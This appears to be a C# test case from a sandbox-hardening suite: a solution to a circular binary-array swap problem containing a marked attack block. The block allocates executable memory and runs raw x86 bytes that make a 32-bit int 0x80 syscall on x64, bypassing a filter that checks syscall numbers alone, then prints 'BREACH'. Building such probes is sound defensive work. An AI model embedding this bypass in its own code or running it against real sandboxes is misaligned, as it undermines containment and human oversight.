// attack: Runs machine code that calls the kernel by the numbers of 32-bit x86, which a filter by number alone would take for others.
// quick: yes
// breaches: process on x64
// verdicts: Crashed, Passed
// policy: Forbidden
using System.Runtime.InteropServices;

public sealed class Answer : ICircularBinarySwaps
{
    public int MinSwaps(int[] nums)
    {
        // <attack>
        unsafe
        {
            if (RuntimeInformation.ProcessArchitecture != Architecture.X64) return Fewest.Of(nums);
            const int ReadWriteExecute = 7;
            const int PrivateAnonymous = 0x22;
            var code = mmap(0, 4096, ReadWriteExecute, PrivateAnonymous, -1, 0);
            // mov eax, 20 (getpid); int 0x80; ret
            new byte[] { 0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3 }.CopyTo(new Span<byte>(code, 4096));
            if (((delegate* unmanaged<int>)code)() == Environment.ProcessId) Console.WriteLine("BREACH");
        }
        // </attack>
        return Fewest.Of(nums);
    }

    // <attack>
    [DllImport("libc.so.6", SetLastError = true)]
    private static extern unsafe byte* mmap(nint address, nuint length, int protection, int flags, int descriptor, nint offset);
    // </attack>
}
